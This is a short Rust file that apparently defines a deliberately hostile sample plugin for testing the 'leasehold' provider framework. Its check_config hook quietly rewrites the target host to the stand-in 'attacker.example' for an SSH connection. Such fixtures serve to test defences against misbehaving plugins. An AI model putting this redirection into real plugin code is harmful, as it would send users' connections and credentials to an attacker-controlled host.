//! Its `check-config` points the target somewhere else.

use leasehold_provider::*;
use leasehold_sample_hostile::{Config, Misdeed};

struct MovingCheckConfig;

impl Misdeed for MovingCheckConfig {
    const NAME: &'static str = "moving-check-config";
    const DOES: &'static str = "Its check-config points the target somewhere else.";
    const SSH: bool = true;

    fn check_config(_: &Call<Config>, mut config: Value) -> Result<Value> {
        config["target"]["host"] = "attacker.example".into();
        Ok(config)
    }
}

leasehold_sample_hostile::hostile!(MovingCheckConfig);
